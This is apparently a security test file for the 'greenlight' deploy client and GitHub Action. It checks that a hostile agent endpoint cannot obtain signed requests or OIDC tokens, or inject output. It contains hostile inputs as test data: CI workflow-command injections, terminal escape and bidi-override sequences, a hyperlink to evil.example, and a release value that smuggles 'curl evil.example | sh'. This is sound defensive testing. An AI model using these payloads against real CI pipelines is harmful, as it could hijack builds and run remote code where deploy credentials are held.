import assert from "node:assert/strict";
import { mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { WebSocket } from "ws";
import { runClient } from "../helpers/client.js";
import { makeKeys, type Keys } from "../helpers/daemon.js";
import { startFakeAgent, type FakeAgent, type FakeScript } from "../helpers/fake-agent.js";
import { startLocalIssuer, type LocalIssuer } from "../helpers/oidc-issuer.js";
import { runBundledAction } from "../helpers/action-run.js";

// The client runs inside CI jobs that hold deploy credentials; whatever answers at an agent's URL is untrusted.
let dir: string;
let keys: Keys;
let issuer: LocalIssuer;
const fakes: FakeAgent[] = [];

before(async () => {
  dir = await mkdtemp(join(tmpdir(), "greenlight-hostile-agent-"));
  keys = await makeKeys(dir, "ci");
  issuer = await startLocalIssuer({ repository: "acme/shop" });
});

after(async () => {
  for (const fake of fakes) await fake.stop();
  await issuer?.stop();
});

async function fake(
  agentId: string,
  script?: FakeScript,
  hello?: Record<string, unknown>,
): Promise<FakeAgent> {
  const agent = await startFakeAgent(agentId, script, hello);
  fakes.push(agent);
  return agent;
}

const DEPLOY_ID = "d20261130000000-abcdef";
const DIGEST = `sha256:${"b".repeat(64)}`;
// What a hostile agent or a container behind it might print, in every form a runner, GitLab or a terminal acts on.
const NASTY = [
  "::set-output name=release::pwned",
  "  ::add-mask::nothing",
  "see ##[error]not ours",
  "\u001b[0Ksection_end:1:greenlight_pull_1\r\u001b[0K",
  "\u009b2J\u009d0;t\u009c\u0085::warning::after NEL",
  "\u202eevil\u202c \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
];

/** Accepts, streams NASTY as the agent's and the container's own lines, then ends with `result`. */
function hostileDeploy(result: Record<string, unknown>): FakeScript {
  return (ws: WebSocket) => {
    const send = (message: unknown) => ws.send(JSON.stringify(message));
    send({ type: "accepted", deployId: DEPLOY_ID, command: "deploy", service: "web" });
    NASTY.forEach((message, i) =>
      send({
        type: "event",
        deployId: DEPLOY_ID,
        event: {
          seq: i + 1,
          time: new Date().toISOString(),
          step: i % 2 ? "health" : "pull",
          level: i === 2 ? "warn" : "info",
          source: i % 3 ? "container" : "agent",
          message,
        },
      }),
    );
    send({
      type: "result",
      result: {
        deployId: DEPLOY_ID,
        service: "web",
        status: "succeeded",
        durations: { total: 5 },
        ...result,
      },
    });
    ws.close(1000);
  };
}

/** The bundled action as the runner starts it, against whatever answers at the agents' URLs. */
function runAction(inputs: Record<string, string>, env: Record<string, string> = {}) {
  return runBundledAction(
    dir,
    { service: "web", key: keys.privatePem, image: "r.example/web:1", ...inputs },
    env,
  );
}

/** Workflow commands the runner would act on in `log`: V2 at a line start after white space, V1 anywhere. */
function workflowCommands(log: string): string[] {
  const found: string[] = [];
  for (const line of log.split("\n")) {
    const v2 = /^\s*::([A-Za-z-]+)/u.exec(line);
    if (v2?.[1]) found.push(v2[1]);
    for (const v1 of line.matchAll(/##\[([A-Za-z-]+)/g)) found.push(`##${v1[1]}`);
  }
  return found;
}

const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

test("an endpoint that announces another agent gets nothing signed, and the client exits 3", async () => {
  const other = await fake("web-2");
  const run = await runClient(["status", "--service", "web", "--agent", `web-1=${other.url}`], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(run.code, 3, run.stderr);
  assert.match(
    run.stderr,
    /AGENT_MISMATCH: .* answered as agent "web-2", but "web-1" was expected; nothing was signed/,
  );
  assert.equal(other.requests.length, 0, "no request reached the endpoint");
});

test("without ID=, the agent expected is the URL's host name, and an agent by that name is served", async () => {
  const named = await fake("127.0.0.1", (ws) => {
    ws.send(JSON.stringify({ type: "status", service: "web", live: null, releases: [] }));
    ws.close(1000);
  });
  const ok = await runClient(["status", "--service", "web", "--agent", named.url], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(ok.code, 0, ok.stderr);
  assert.equal(named.requests.length, 1);
  const other = await fake("web-1");
  const refused = await runClient(["status", "--service", "web", "--agent", other.url], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(refused.code, 3);
  assert.match(refused.stderr, /"127\.0\.0\.1" \(the URL's host name, the default\) was expected/);
  assert.match(refused.stderr, /--agent web-1=ws:\/\/127\.0\.0\.1:\d+/);
});

test("an agent of another version is named as such; a version that is not one is not printed", async () => {
  const answer: FakeScript = (ws) => {
    ws.send(JSON.stringify({ type: "status", service: "web", live: null, releases: [] }));
    ws.close(1000);
  };
  const older = await fake("web-1", answer, { version: "0.0.9" });
  const run = await runClient(["status", "--service", "web", "--agent", `web-1=${older.url}`], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(run.code, 0, run.stderr);
  assert.match(run.stdout, /agent web-1 runs greenlight 0\.0\.9; this client is \d+\.\d+\.\d+/);
  const odd = await fake("web-1", answer, { version: "\u001b[31m::error::pwned" });
  const quiet = await runClient(["status", "--service", "web", "--agent", `web-1=${odd.url}`], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(quiet.code, 0, quiet.stderr);
  assert.doesNotMatch(quiet.stdout, /runs greenlight|pwned/);
});

test("a refusal for time says how far this machine's clock is from the agent's", async () => {
  const ahead = await fake(
    "web-1",
    (ws) => {
      ws.send(
        JSON.stringify({
          type: "error",
          code: "AUTH_NOT_YET_VALID",
          message: "the request is issued in the future",
        }),
      );
      ws.close(4401);
    },
    { time: Date.now() - 120_000 },
  );
  const run = await runClient(["status", "--service", "web", "--agent", `web-1=${ahead.url}`], {
    GREENLIGHT_KEY: keys.privatePem,
  }).done;
  assert.equal(run.code, 3, run.stderr);
  assert.match(
    run.stderr,
    /this machine's clock is 1[12]\d s ahead of the agent's; a request tolerates 30 s/,
  );
});

test("keyless: no ID token is requested for an endpoint that is not the agent configured", async () => {
  const before = issuer.requested.length;
  const other = await fake("attacker");
  const run = await runAction(
    { agents: `web-1=${other.url}`, auth: "oidc", key: "" },
    {
      ACTIONS_ID_TOKEN_REQUEST_URL: issuer.githubTokenUrl,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: issuer.githubRequestToken,
    },
  );
  assert.equal(run.code, 3, run.stdout);
  assert.equal(issuer.requested.length, before, "no token was minted");
  assert.equal(other.requests.length, 0);
});

test("keyless: the ID token's audience is the agent the user named, never one the server announces", async () => {
  const web1 = await fake("web-1", (ws) => {
    ws.send(JSON.stringify({ type: "status", service: "web", live: null, releases: [] }));
    ws.close(1000);
  });
  const run = await runAction(
    { agents: `web-1=${web1.url}`, auth: "oidc", key: "", command: "status" },
    {
      ACTIONS_ID_TOKEN_REQUEST_URL: issuer.githubTokenUrl,
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: issuer.githubRequestToken,
    },
  );
  assert.equal(run.code, 0, run.stdout);
  assert.deepEqual(issuer.requested.slice(-1), ["greenlight:web-1"]);
});

test("the action: a hostile agent's lines issue no workflow command and carry no control character", async () => {
  const agent = await fake("web-1", hostileDeploy({ release: "3", digest: DIGEST }));
  const run = await runAction({ agents: `web-1=${agent.url}` });
  assert.equal(run.code, 0, run.stdout);
  const ours = new Set(["group", "endgroup", "add-mask", "warning", "error"]);
  const commands = workflowCommands(run.stdout);
  assert.deepEqual(
    commands.filter((c) => !ours.has(c)),
    [],
    run.stdout,
  );
  assert.equal(commands.filter((c) => c === "add-mask").length, 1, "only the key's mask");
  assert.doesNotMatch(run.stdout, UNSAFE);
  assert.equal(run.outputs.release, "3");
  assert.doesNotMatch(run.outputFile, /pwned/);
});

test("the action: outputs that do not have their shape are refused, none is set, and the step fails", async () => {
  for (const release of ['1"; curl evil.example | sh; "', "1\n::set-output name=x::y"]) {
    // The wire schema refuses such a result; the outputs' own shape check stands behind it (unit-tested).
    const agent = await fake("web-1", hostileDeploy({ release, digest: DIGEST }));
    const run = await runAction({ agents: `web-1=${agent.url}` });
    assert.notEqual(run.code, 0);
    assert.match(run.stdout, /PROTOCOL_ERROR/);
    assert.equal(run.outputs.release, undefined);
    assert.doesNotMatch(run.outputFile, /curl|set-output/);
  }
});

test("the CLI: plain, GitLab and JSON output stay inert; JSON decodes back to exactly what was sent", async () => {
  const agent = await fake("web-1", hostileDeploy({ release: "3", digest: DIGEST }));
  const args = ["deploy", "--service", "web", "--image", "r.example/web:1", "--agent", `web-1=${agent.url}`];
  const env = { GREENLIGHT_KEY: keys.privatePem };

  const plain = await runClient(args, env).done;
  assert.equal(plain.code, 0, plain.stderr);
  assert.deepEqual(workflowCommands(plain.stdout), []);
  assert.doesNotMatch(plain.stdout, UNSAFE);

  const gitlab = await runClient(args, { ...env, GITLAB_CI: "true" }).done;
  const markers = gitlab.stdout.match(/\u001b\[0Ksection_(start|end):\d+:[\w]+/g) ?? [];
  assert.deepEqual(
    markers.map((m) => m.replace(/^\u001b\[0Ksection_(start|end):\d+:greenlight_(\w+?)_\d+$/, "$1 $2")),
    [
      "start pull",
      "end pull",
      "start health",
      "end health",
      "start pull",
      "end pull",
      "start health",
      "end health",
      "start pull",
      "end pull",
      "start health",
      "end health",
    ],
    "only the renderer's own sections",
  );

  const json = await runClient([...args, "--json"], env).done;
  assert.doesNotMatch(json.stdout, UNSAFE);
  assert.doesNotMatch(json.stdout, /##\[/);
  const events = json.lines.filter((l) => l.type === "event").map((l) => l.message);
  assert.deepEqual(events, NASTY);
});
